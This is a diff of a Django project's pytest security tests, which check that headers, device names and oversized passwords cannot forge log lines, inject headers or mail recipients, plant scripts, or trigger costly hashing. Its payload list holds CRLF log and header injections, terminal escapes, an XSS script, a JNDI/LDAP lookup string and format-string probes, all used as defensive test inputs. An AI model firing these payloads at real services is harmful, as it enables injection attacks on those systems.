@@ -1,9 +1,10 @@
-"""What a stranger may write into our logs, headers, mails and pages by what every client sends along."""
+"""What an attacker can write into logs, headers, mails and pages with the values that every client sends."""
 
 import io
 import logging
 import re
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from django.conf import settings as django_settings
@@ -17,18 +18,14 @@ pytestmark = [pytest.mark.django_db, pytest.mark.at_length_on("sqlite")]
 
 LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (tokens|accounts|django\.\w+) .*")
 FORGERY = "2030-01-01 12:00:00,000 tokens signed_in user=forged"
+SCRIPT = "<script>alert(1)"
+CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
 NASTY = [
-    f"x\n{FORGERY}",
-    f"x\r\n{FORGERY}",
-    f"x\r{FORGERY}",
-    f"x\x0b{FORGERY}",
-    f"x\x85{FORGERY}",
-    f"x\u2028{FORGERY}",
-    f"x\x00{FORGERY}",
+    *(f"x{end_of_line}{FORGERY}" for end_of_line in ("\n", "\r\n", "\r", "\x0b", "\x85", "\u2028", "\x00")),
     f"\x1b[2K\x1b[1A{FORGERY}",
     "x\r\nSet-Cookie: __Host-access=forged",
     "x\nBcc: victim@example.org",
-    "<script>alert(1)</script>",
+    f"{SCRIPT}</script>",
     "%0d%0aSet-Cookie:%20forged=1",
     "${jndi:ldap://example.org/a}",
     "{0.__class__} %s %(message)s %n",
@@ -38,7 +35,10 @@ NASTY = [
 
 @pytest.fixture
 def written() -> Iterator[io.StringIO]:
-    """What the project's own handler and format write of everything that is logged from INFO upwards."""
+    """What the project's own handler and format write of all records from INFO upwards.
+
+    pytest captures records before they are formatted, so a line break in a record would go unnoticed there.
+    """
     stream = io.StringIO()
     handler = logging.StreamHandler(stream)
     handler.setFormatter(logging.Formatter(django_settings.LOGGING["formatters"]["line"]["format"], style="{"))
@@ -51,22 +51,31 @@ def written() -> Iterator[io.StringIO]:
 
 
 def assert_lines(stream: io.StringIO) -> None:
-    """Each line begins as ours do, none is a stranger's, and none orders a terminal about."""
+    """Hold each line to beginning as ours do, to being none of the attacker's, and to having no control characters."""
     text = stream.getvalue()
     assert text
-    for line in text.splitlines():  # Python's, which break at more than line feeds.
+    for line in text.splitlines():  # This method splits at more characters than line feeds.
         assert LINE.fullmatch(line), ascii(line)
         assert not line.startswith(FORGERY)
         assert line.isprintable(), ascii(line)
 
 
+def assert_harmless(answer: Any) -> None:
+    """Hold a response to being no server error, with printable headers, without the attacker's header or script."""
+    assert answer.status_code < 500
+    for name, value in [*answer.headers.items(), *((c.key, c.OutputString()) for c in answer.cookies.values())]:
+        assert str(value).isprintable(), name
+        assert "forged" not in str(value)
+    assert not answer.get("Content-Type", "").startswith("text/html") or SCRIPT not in answer.content.decode()
+
+
 @pytest.mark.parametrize("nasty", NASTY, ids=ascii)
-def test_no_header_writes_a_line_of_its_own_or_into_an_answer(user, written, nasty, settings, mailoutbox):
+def test_no_header_adds_a_line_to_a_log_or_a_value_to_a_response(user, written, nasty, settings, mailoutbox):
     settings.TRUSTED_PROXIES = ["127.0.0.0/8"]
     forwarded = {"HTTP_X_FORWARDED_FOR": nasty, "HTTP_X_REAL_IP": nasty, "HTTP_FORWARDED": f"for={nasty}"}
     client = Client(HTTP_USER_AGENT=nasty, HTTP_REFERER=nasty, HTTP_ACCEPT_LANGUAGE=nasty, **forwarded)
-    login(Client(), user)  # The second sign-in is a new device, of which the owner is told.
-    answers = [
+    login(Client(), user)  # So the client below is a new device, and its user is notified by mail.
+    for answer in (
         post(client, "/api/auth/login", {"email": user.email, "password": "wrong"}),
         post(client, "/api/auth/login", {"email": f"{nasty}@example.org", "password": nasty}),
         post(client, "/api/auth/login", {"email": user.email, "password": PASSWORD}),
@@ -76,93 +85,80 @@ def test_no_header_writes_a_line_of_its_own_or_into_an_answer(user, written, nas
         client.get(f"/{nasty}"),
         client.get("/api/auth/sessions/" + nasty.replace("/", "")),
         post(client, "/api/auth/logout"),
-    ]
-    assert all(answer.status_code < 500 for answer in answers)
-    for answer in answers:
-        for name, value in [*answer.headers.items(), *((c.key, c.OutputString()) for c in answer.cookies.values())]:
-            assert str(value).isprintable(), name
-            assert "forged" not in str(value)
-        is_page = answer.get("Content-Type", "").startswith("text/html")
-        assert not is_page or "<script>alert(1)" not in answer.content.decode()
+    ):
+        assert_harmless(answer)
     assert_lines(written)
-    for event in SecurityEvent.objects.all():
-        assert event.user_agent.isprintable()
+    assert all(event.user_agent.isprintable() for event in SecurityEvent.objects.all())
     for message in mailoutbox:
         assert set(message.to) <= {user.email}
         assert "\n" not in message.subject
-        assert not [html for html, _ in message.alternatives if "<script>alert(1)" in html]
+        assert not [html for html, _ in message.alternatives if SCRIPT in html]
         message.message().as_bytes()
 
 
 @pytest.mark.django_db(transaction=True)
 @pytest.mark.parametrize("nasty", NASTY, ids=ascii)
-def test_no_name_of_a_device_does_either(api, user, written, nasty, mailoutbox):
+def test_no_name_of_a_device_adds_a_line_to_a_log_or_a_script_to_a_page(api, user, written, nasty, mailoutbox):
+    expected = 400 if CONTROL.search(nasty) else 200
     data = {"email": user.email, "password": PASSWORD, "device_name": nasty}
-    status = post(api, "/api/auth/login", data).status_code
-    printable = not re.search(r"[\x00-\x1f\x7f-\x9f]", nasty)
-    assert status == (200 if printable else 400)
+    assert post(api, "/api/auth/login", data).status_code == expected
     session = login(api, user)["session"]["id"]
     answer = api.patch(f"/api/auth/sessions/{session}", {"device_name": nasty}, content_type="application/json")
-    assert answer.status_code == status
+    assert answer.status_code == expected
     api.post(f"/sessions/{session}/rename", {"name": nasty, "device_name": nasty})
-    assert "<script>alert(1)" not in api.get("/").content.decode()
+    assert SCRIPT not in api.get("/").content.decode()
     assert_lines(written)
-    for device in Device.objects.all():
-        assert not re.search(r"[\x00-\x1f\x7f-\x9f]", device.name)
+    assert not [device for device in Device.objects.all() if CONTROL.search(device.name)]
     for message in mailoutbox:
         message.message().as_bytes()
 
 
+PASSWORD_FIELDS = [
+    *(("login", "password"), ("register", "password"), ("reauthenticate", "password")),
+    *(("password/change", "current_password"), ("password/change", "new_password")),
+    ("password/reset/confirm", "password"),
+]
+
+
 @pytest.mark.parametrize("length", [4097, 60_000])
-@pytest.mark.parametrize(
-    ("path", "field"),
-    [
-        ("login", "password"),
-        ("register", "password"),
-        ("reauthenticate", "password"),
-        ("password/change", "current_password"),
-        ("password/change", "new_password"),
-        ("password/reset/confirm", "password"),
-    ],
-)
-def test_a_password_beyond_the_limit_is_never_hashed(api, user, hashed, path, field, length):
-    login(api, user)
+@pytest.mark.parametrize(("path", "field"), PASSWORD_FIELDS)
+def test_a_password_beyond_the_limit_is_never_hashed(signed_in, user, hashed, path, field, length):
     hashed.clear()
     data = {"email": user.email, "current_password": PASSWORD, "new_password": "x" * 20, "token": "x"}
-    answer = post(api, f"/api/auth/{path}", {**data, field: "p" * length})
+    answer = post(signed_in, f"/api/auth/{path}", {**data, field: "p" * length})
     assert answer.status_code == 400
-    assert len(hashed) <= 1  # The current one, which is good.
+    assert len(hashed) <= 1  # The current password is hashed, if it is valid.
     assert b"pppp" not in answer.content
 
 
-@pytest.mark.parametrize(
-    ("path", "fields"),
-    [
-        ("/sign-in", {"username": "user", "password": "huge"}),
-        ("/admin/login/", {"username": "user", "password": "huge"}),
-        ("/sign-in/again", {"current_password": "huge"}),
-        ("/password/change", {"current_password": "huge", "password1": "x" * 20, "password2": "x" * 20}),
-        ("/register", {"email": "new@example.org", "password1": "huge", "password2": "huge"}),
-    ],
-)
-def test_nor_is_one_that_is_typed_into_a_page(api, user, hashed, path, fields):
-    login(api, user)
+HUGE = "p" * 1_000_000
+FORMS = {
+    "/sign-in": {"username": "{user}", "password": HUGE},
+    "/admin/login/": {"username": "{user}", "password": HUGE},
+    "/register": {"email": "new@example.org", "password1": HUGE, "password2": HUGE},
+    "/sign-in/again": {"current_password": HUGE},
+    "/password/change": {"current_password": HUGE, "password1": "x" * 20, "password2": "x" * 20},
+}
+SIGNED_OUT = {"/sign-in", "/admin/login/", "/register"}
+
+
+@pytest.mark.parametrize(("path", "fields"), FORMS.items(), ids=FORMS)
+def test_a_password_beyond_the_limit_in_a_form_is_never_hashed(signed_in, user, hashed, path, fields):
     hashed.clear()
-    typed = {name: {"user": user.email, "huge": "p" * 1_000_000}.get(value, value) for name, value in fields.items()}
-    answer = (Client() if {*fields.values()} & {"user", "new@example.org"} else api).post(path, typed)
+    data = {name: value.format(user=user.email) for name, value in fields.items()}
+    answer = (Client() if path in SIGNED_OUT else signed_in).post(path, data)
     assert answer.status_code in {200, 400, 413}
     assert hashed == []
 
 
-def test_other_peoples_sessions_are_out_of_reach_on_pages(api, another, user):
-    stranger = another()
-    theirs = login(stranger, UserFactory())["session"]["id"]
-    login(api, user)
+def test_pages_do_not_reach_sessions_of_other_users(another, signed_in, user):
+    other = another()
+    theirs = login(other, UserFactory())["session"]["id"]
     name = Device.objects.exclude(user=user).get().name
     for path in (f"/sessions/{theirs}/end", f"/sessions/{theirs}/rename"):
         for data in ({}, {"name": "mine now", "device_name": "mine now"}):
-            assert api.post(path, data).status_code in {302, 404}
-    assert theirs not in api.get("/").content.decode()
+            assert signed_in.post(path, data).status_code in {302, 404}
+    assert theirs not in signed_in.get("/").content.decode()
     assert RefreshToken.objects.get(pk=theirs).revoked_at is None
     assert Device.objects.exclude(user=user).get().name == name
-    assert stranger.get("/api/auth/me").status_code == 200
+    assert other.get("/api/auth/me").status_code == 200
